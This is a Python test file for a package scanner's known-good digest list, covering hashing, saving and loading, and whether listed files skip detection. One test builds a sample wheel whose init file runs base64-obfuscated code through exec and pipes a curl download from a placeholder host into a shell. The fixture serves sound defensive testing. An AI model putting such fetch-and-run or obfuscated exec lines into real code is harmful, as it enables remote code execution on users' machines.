"""The list of members that weigh nothing."""

import hashlib
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import scanner.scan
from scanner.known_good import KnownGood, KnownGoodError, built_in, digest_of, load, save
from scanner.report import ScanJob
from scanner.ruleset import DEFAULT_RULES, load_rules
from tests.scanner.distributions import wheel

DIGESTS = st.lists(st.binary(min_size=10, max_size=32), max_size=40)


@given(DIGESTS, st.binary(min_size=10, max_size=32))
def test_a_list_holds_what_was_put_in_and_nothing_else(digests: list[bytes], other: bytes) -> None:
    known = KnownGood(digests)
    assert all(digest in known for digest in digests)
    assert (other in known) == (other[:10] in {digest[:10] for digest in digests})


def test_a_member_is_found_by_its_sha256_in_any_form() -> None:
    data = b"def tide(): ..."
    known = KnownGood([digest_of(data)])
    assert hashlib.sha256(data).digest() in known
    assert hashlib.sha256(data).hexdigest() in known
    assert hashlib.sha256(b"other").hexdigest() not in known


def test_a_list_is_read_as_it_was_saved_and_can_be_extended(tmp_path: Path) -> None:
    path = tmp_path / "known.bin"
    save(path, KnownGood([digest_of(b"one")]))
    save(path, KnownGood([*load(path), digest_of(b"two")]))
    known = load(path)
    assert len(known) == 2
    assert digest_of(b"one") in known
    assert digest_of(b"two") in known


def test_a_list_in_text_may_say_what_each_digest_is(tmp_path: Path) -> None:
    path = tmp_path / "known.txt"
    path.write_text(f"# launchers\n{digest_of(b'one').hex()}  # one\n")
    assert list(load(path)) == [digest_of(b"one")]


@pytest.mark.parametrize("raw", [b"meerkat known-good 1\nshort", b"deadbeef\n", b"not hex at all, not at all\n"])
def test_a_file_that_is_no_list_is_refused(tmp_path: Path, raw: bytes) -> None:
    path = tmp_path / "known.bin"
    path.write_bytes(raw)
    with pytest.raises(KnownGoodError):
        load(path)


def test_the_built_in_list_is_small() -> None:
    assert 0 < len(built_in()) < 100


def test_neither_rules_nor_signals_speak_of_what_stands_in_a_member_known_good(monkeypatch: pytest.MonkeyPatch) -> None:
    source = b"import os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl https://a.invalid | sh')\n"
    job = ScanJob(filename="sample-1.0-py3-none-any.whl", data=wheel({"sample/__init__.py": source}))
    rules = load_rules(DEFAULT_RULES)

    def told() -> set[str]:
        return {f.rule for f in scanner.scan.scan(job, rules).findings if f.member == "sample/__init__.py"}

    assert {"import-starts-program", "curl_pipe_shell"} <= told()
    monkeypatch.setattr(scanner.scan, "known_good", lambda: KnownGood([digest_of(source)]))
    assert not told()
